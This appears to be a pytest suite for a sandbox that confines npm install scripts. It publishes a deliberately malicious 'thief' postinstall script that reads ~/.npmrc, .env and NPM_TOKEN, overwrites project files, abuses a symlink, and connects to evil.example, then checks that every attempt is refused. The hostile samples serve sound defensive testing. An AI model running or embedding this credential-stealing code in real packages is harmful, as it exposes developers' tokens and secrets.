"""Install scripts of dependencies are careful and confined: an honest one works, a thief is refused and told; children of a script
have no more than it has."""

import json

import pytest

from tests.machine.browser import Machine
from tests.machine.registry import Registry
from tests.machine.test_permissions import ANSWERING

JS = b'module.exports = 1'
THIEF = """
const fs = require('fs'), cp = require('child_process'), net = require('net')
const tried = {}
function attempt(name, work) { try { tried[name] = String(work()).trim() } catch (error) { tried[name] = error.code || 'failed' } }
attempt('npmrc', () => fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8'))
attempt('env file', () => fs.readFileSync(process.env.INIT_CWD + '/.env', 'utf8'))
attempt('token', () => process.env.NPM_TOKEN || 'none')
attempt('project', () => fs.writeFileSync(process.env.INIT_CWD + '/index.js', 'stolen'))
attempt('other package', () => fs.writeFileSync('../honest/index.js', 'stolen'))
attempt('symlink', () => { fs.symlinkSync(process.env.HOME, 'out'); return fs.readFileSync('out/.npmrc', 'utf8') })
attempt('child', () => cp.execSync('cat ~/.npmrc 2>&1 || true'))
attempt('policy', () => fs.mkdirSync(process.env.INIT_CWD + '/.terrarium'))
attempt('thread', () => new (require('worker_threads').Worker)('1', {eval: true}))
attempt('own', () => { fs.writeFileSync('own.txt', 'mine'); return 'written' })
net.connect(443, 'evil.example').on('error', (error) => { tried.host = error.code; fs.writeFileSync('tried.json', JSON.stringify(tried)) })
"""


def said(machine: Machine, command: str) -> str:
    """Without the line breaks of the terminal."""
    return machine.run(command + ' 2>&1').replace('\n', '')


def test_a_thief_gets_nothing_and_is_told(machine: Machine, registry: Registry) -> None:
    registry.publish(
        'honest',
        '1.0.0',
        {'package/index.js': JS},
        scripts={'postinstall': "node -e \"require('fs').writeFileSync('built', 'yes')\""},
    )
    registry.publish(
        'thief',
        '1.0.0',
        {'package/index.js': JS, 'package/steal.js': THIEF.encode()},
        scripts={'postinstall': 'node steal.js'},
        dependencies={'honest': '1.0.0'},
    )
    machine.run(
        f'cd ~; echo "registry={registry.url}" > .npmrc; echo "secret=1" >> .npmrc; mkdir -p careful; cd careful'
    )
    machine.run('echo "{}" > package.json; echo key > .env; echo mine > index.js')
    told = said(machine, 'NPM_TOKEN=x npm install thief')
    assert 'added 2 packages' in told
    assert 'install scripts ran: honest@1.0.0 (postinstall), thief@1.0.0 (postinstall)' in told
    for refused in [
        'refused: node (postinstall of thief): read /home/user/.npmrc',
        'read /home/user/careful/.env',
        'write /home/user/careful/index.js',
        'write /home/user/careful/node_modules/honest/index.js',
        'connect evil.example:443',
    ]:
        assert refused in told, [refused, told]
    found = machine.run('cat node_modules/thief/tried.json; echo; cat index.js node_modules/honest/built; echo')
    for part in [
        '"npmrc":"EACCES"',
        '"env file":"EACCES"',
        '"token":"none"',
        '"project":"EACCES"',
        '"other package":"EACCES"',
        '"symlink":"EACCES"',
        '"policy":"EACCES"',
        '"own":"written"',
        '"thread":"ERR_WORKER_INIT_FAILED"',
        '"host":"EACCES"',
        'mine',
        'yes',
    ]:
        assert part in found.replace('\n', ''), [part, found]
    assert 'secret' not in found
    machine.run('cd ~/project; rm -rf ~/careful ~/.npmrc')


def test_analyses_are_not_a_script_s(machine: Machine, registry: Registry) -> None:
    """What the runtime keeps of a large source is for all programs: it isn't kept of a script's, nor told as its writing."""
    source = 'const wait = async () => { await null }\nwait()\n' + 'function some() { return 1 }\n' * 200
    poison = "\ntry { require('fs').writeFileSync(process.env.HOME + '/.cache/terrarium/x', '') } catch (error) { console.error(error.code) }"
    registry.publish(
        'large',
        '1.0.0',
        {'package/index.js': JS, 'package/large.js': source.encode(), 'package/poison.js': poison.encode()},
        scripts={'install': 'node large.js', 'postinstall': 'node poison.js'},
    )
    machine.run(f'mkdir -p ~/large; cd ~/large; echo "registry={registry.url}" > .npmrc; echo "{{}}" > package.json')
    told = said(machine, 'npm install large')
    assert 'install scripts ran: large@1.0.0 (install), large@1.0.0 (postinstall)' in told, told
    assert 'outside of its folder' not in told, told
    assert told.count('refused:') == 1 and 'write /home/user/.cache/terrarium/x' in told, told
    machine.run('cd ~/project; rm -rf ~/large')


def test_the_project_may_say_otherwise(machine: Machine, registry: Registry) -> None:
    registry.publish(
        'writer', '1.0.0', {'package/index.js': JS}, scripts={'postinstall': 'echo made > $INIT_CWD/made.txt'}
    )
    machine.run(
        f'mkdir -p ~/allowed; cd ~/allowed; echo "registry={registry.url}" > .npmrc; echo "{{}}" > package.json'
    )
    assert 'ermission denied' in said(machine, 'npm install writer')
    machine.run(
        """mkdir -p .terrarium; echo '{"rules":[{"effect":"allow","action":"write","path":"./made.txt","package":"writer"}]}' > .terrarium/policy.json"""
    )
    assert 'outside of its folder: sh (postinstall of writer): write /home/user/allowed/made.txt' in said(
        machine, 'npm install writer'
    )
    assert machine.run('cat made.txt') == 'made'
    machine.run('echo "{" > .terrarium/policy.json; rm -rf node_modules package-lock.json')
    assert 'EPOLICY' in said(machine, 'npm install writer')
    machine.run('cd ~/project; rm -rf ~/allowed')


ASKER = """
const fs = require('fs'), tried = {}
function attempt(name, work) { try { tried[name] = String(work()).trim() } catch (error) { tried[name] = error.code || 'failed' } }
attempt('beside', () => require('./beside.js') + fs.readFileSync('package.json', 'utf8').length)
fs.writeFileSync('beside.js', 'module.exports = "new"')
attempt('own', () => fs.readFileSync('beside.js', 'utf8'))
attempt('self', () => fs.readFileSync(__filename, 'utf8').includes('attempt'))
attempt('key', () => fs.readFileSync(process.env.INIT_CWD + '/.env', 'utf8'))
attempt('first', () => fs.writeFileSync(process.env.INIT_CWD + '/first', ''))
attempt('second', () => fs.writeFileSync(process.env.INIT_CWD + '/second', ''))
attempt('token', () => process.env.NPM_TOKEN || 'none')
attempt('thread', () => new (require('worker_threads').Worker)('1', {eval: true}))
attempt('mode', () => { fs.chmodSync(process.env.INIT_CWD + '/.env', 0o777); return 'changed' })
fs.writeFileSync('tried.json', JSON.stringify(tried))
"""


@pytest.mark.parametrize('profile', ['open', 'strict'])
def test_a_script_asks_below_every_profile(machine: Machine, registry: Registry, profile: str) -> None:
    """Also when npm itself is confined: what a script's start is told beforehand changes nothing of what it may do."""
    files = {'package/index.js': JS, 'package/beside.js': b'module.exports = "old"', 'package/ask.js': ASKER.encode()}
    registry.publish('asker', '1.0.0', files, scripts={'postinstall': 'node ask.js'})
    host = registry.url.split('//')[1].split('/')[0]
    rules = [
        {'effect': 'allow', 'action': ['connect', 'fetch'], 'host': host},
        {'effect': 'allow', 'action': ['read', 'write'], 'path': '~/asks'},
        {'effect': 'allow', 'action': ['read', 'write'], 'path': '~/.npm'},
    ]
    command = (
        f'cd ~/asks; rm -rf node_modules package*; echo "registry={registry.url}" > .npmrc; echo "{{}}" > package.json; echo key > .env; '
        'NPM_TOKEN=x npm install asker 2>&1; cat node_modules/asker/tried.json; ls -l .env first second 2>&1'
    )
    machine.run('mkdir -p ~/asks')
    options = {'policy': {'profile': profile, 'rules': rules}}
    machine.driver.execute_script('window.personAnswers = true')
    _, text, asked = machine.api(ANSWERING, command, options, ['once', 'deny', 'deny'])
    assert '{"beside"' in text, text
    found = json.loads(text[text.index('{"beside"') : text.index('}', text.index('{"beside"')) + 1])
    assert found['beside'].startswith('old') and found['own'] == 'module.exports = "new"' and found['self'] == 'true'
    assert found['key'] == found['second'] == found['mode'] == 'EACCES' and found['first'] == 'undefined'
    assert found['token'] == 'none' and found['thread'] == 'ERR_WORKER_INIT_FAILED'
    assert [each[1:] for each in asked][:2] == [['write', f'/home/user/asks/{name}'] for name in ['first', 'second']]
    assert "'second'" in text or 'second: No such file' in text or 'cannot access' in text, text
    machine.run('rm -rf ~/asks')
